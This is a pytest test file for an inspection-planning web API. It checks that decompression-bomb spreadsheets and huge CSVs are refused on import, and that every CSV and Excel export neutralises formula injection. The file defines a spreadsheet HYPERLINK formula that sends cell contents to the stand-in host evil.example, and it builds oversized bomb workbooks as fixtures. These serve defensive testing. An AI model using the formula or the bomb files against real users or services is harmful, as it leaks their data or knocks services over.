"""Hostile spreadsheets are refused before they expand; no export writes a live formula (issue 13)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.support.api import Api
from tests.support.hostile import empty_rows_workbook, inflated_part, shared_strings_bomb
from tests.support.plans import approved_plans, build, publish
from tests.support.world import USCC_A

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER = ["事项编码", "实施主体", "检查事项名称"]
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"点此")'


def _import(api: Api, content: bytes) -> Any:
    return api.post(
        "/api/v1/catalogue/items/import",
        as_="planner-mkt",
        params={"dry_run": "true"},
        files={"file": ("hostile.xlsx", content, XLSX)},
    )


@pytest.mark.parametrize(
    ("content", "status", "code"),
    [
        (empty_rows_workbook(600_000, HEADER), 413, "too_many_rows"),
        (shared_strings_bomb(300_000, HEADER), 413, "file_too_complex"),
        (inflated_part(200, HEADER), 413, "file_too_complex"),
    ],
    ids=["empty-rows", "shared-strings", "inflated-part"],
)
def test_a_workbook_that_would_expand_is_refused_before_parsing(
    api: Api, content: bytes, status: int, code: str
) -> None:
    assert len(content) < 2 * 1024 * 1024  # small on the wire
    answer = _import(api, content)
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert answer.json()["code"] == code


def test_a_csv_of_a_million_empty_lines_is_refused(api: Api) -> None:
    content = ("事项编码,实施主体,检查事项名称\n" + "\n" * 1_000_000).encode()
    answer = api.post(
        "/api/v1/catalogue/items/import",
        as_="planner-mkt",
        files={"file": ("lines.csv", content, "text/csv")},
    )
    assert answer.status_code == 413 and answer.json()["code"] == "too_many_rows"


# -- formula injection: every CSV and Excel export ---------------------------------------------------------
def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def assert_neutralised(response: Any, fmt: str) -> None:
    """The hostile text is in the file, but as text: an apostrophe in CSV, a string cell in Excel."""
    assert response.status_code == 200, response.text
    if fmt == "csv":
        cells = _csv_cells(response.content)
        assert any(cell == "'" + HOSTILE or cell.startswith("'" + HOSTILE) for cell in cells), cells[:40]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) and "HYPERLINK" in cell]
        return
    found = []
    for sheet in load_workbook(io.BytesIO(response.content)).worksheets:
        for row in sheet.iter_rows():
            found += [cell for cell in row if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert found, "the hostile text is in the workbook"
    assert all(cell.data_type == "s" for cell in found), [(c.coordinate, c.data_type) for c in found]


def _hostile_lists(api: Api) -> None:
    item = {"code": "MKT-EVIL", "name": HOSTILE, "unit_code": "MKT", "legal_basis": HOSTILE, "yearly_cap": 1}
    assert api.post("/api/v1/items", as_="admin", json=item).status_code == 201
    scenario = {"code": "SC-EVIL", "name": HOSTILE, "lead_unit_code": "MKT", "item_codes": ["MKT-001", "FIRE-001"]}
    created = api.post("/api/v1/scenarios", as_="admin", json=scenario)
    assert created.status_code == 201, created.text
    noted = api.patch("/api/v1/library/MKT-ND", as_="admin", json={"reason": "测试", "note": HOSTILE})
    assert noted.status_code == 200, noted.text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("list_name", ["items", "scenarios", "library"])
def test_list_exports_never_carry_a_live_formula(api: Api, list_name: str, fmt: str) -> None:
    _hostile_lists(api)
    answer = api.get(f"/api/v1/catalogue/{list_name}/export", as_="admin", params={"format": fmt})
    assert_neutralised(answer, fmt)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_public_schedule_export_never_carries_a_live_formula(api: Api, fmt: str) -> None:
    renamed = api.patch(f"/api/v1/enterprises/{USCC_A}", as_="admin", json={"name": HOSTILE})
    assert renamed.status_code == 200, renamed.text
    approved_plans(api)
    build(api, "2026-10")
    publish(api, "2026-10")
    answer = api.get("/api/v1/public/schedules/2026-10/export", params={"format": fmt})  # no login
    assert_neutralised(answer, fmt)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_metrics_export_never_carries_a_live_formula(api: Api, fmt: str) -> None:
    renamed = api.patch("/api/v1/units/MKT", as_="admin", json={"name": HOSTILE})
    assert renamed.status_code == 200, renamed.text
    answer = api.get("/api/v1/metrics/export", as_="supervisor", params={"format": fmt})
    assert_neutralised(answer, fmt)
